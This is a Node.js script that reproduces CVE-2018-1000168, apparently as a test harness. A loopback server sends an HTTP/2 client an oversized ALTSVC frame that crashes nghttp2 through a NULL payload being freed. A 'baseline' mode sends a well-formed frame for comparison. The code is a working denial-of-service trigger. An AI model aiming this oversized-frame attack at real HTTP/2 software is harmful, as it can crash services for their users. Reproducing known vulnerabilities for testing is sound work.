'use strict';

// CVE-2018-1000168: `oversized-altsvc.cjs attack` connects an HTTP/2 client to a server on loopback that sends an
// ALTSVC frame larger than nghttp2 accepts. The frame's payload stays NULL and is then freed: SIGSEGV. `baseline`
// sends a well-formed ALTSVC frame, whose payload takes the way through the same function.

const http2 = require('http2');
const net = require('net');
const { whenTold, answer } = require('./when-told.cjs');

const SETTINGS = 4;
const GOAWAY = 7;
const ALTSVC = 10;
const FRAME_HEADER_BYTES = 9;
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
/** Above the 16,384 bytes that are accepted by default. */
const OVERSIZED = Buffer.alloc(20000);
const ORIGIN = 'http://example.test';
const WELL_FORMED = Buffer.concat([Buffer.from([0, ORIGIN.length]), Buffer.from(ORIGIN + 'h2=":8000"')]);

/** All frames are on stream 0, the connection itself. */
function frame(type, payload) {
  const header = Buffer.alloc(FRAME_HEADER_BYTES);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  return Buffer.concat([header, payload]);
}

/** Frames of a client this small never straddle two reads on loopback. */
function hasFrame(received, type) {
  let at = received.indexOf(PREFACE) === 0 ? PREFACE.length : 0;
  while (at + FRAME_HEADER_BYTES <= received.length) {
    if (received[at + 3] === type) return true;
    at += FRAME_HEADER_BYTES + received.readUIntBE(at, 3);
  }
  return false;
}

function exchange(payload) {
  let client;
  const server = net.createServer((socket) => {
    socket.on('error', () => {});
    // A client that is still alive refuses the frame with GOAWAY. Destroying the session then frees the frame again.
    socket.on('data', (received) => {
      if (hasFrame(received, GOAWAY)) client.destroy();
    });
    socket.write(Buffer.concat([frame(SETTINGS, Buffer.alloc(0)), frame(ALTSVC, payload)]));
  });
  server.listen(0, '127.0.0.1', () => {
    client = http2.connect('http://127.0.0.1:' + server.address().port);
    client.on('altsvc', (value, origin) => answer('altsvc ' + value + ' ' + origin));
    client.on('error', () => {});
    client.on('close', () => answer('survived'));
  });
}

whenTold(() => exchange(process.argv[2] === 'attack' ? OVERSIZED : WELL_FORMED));
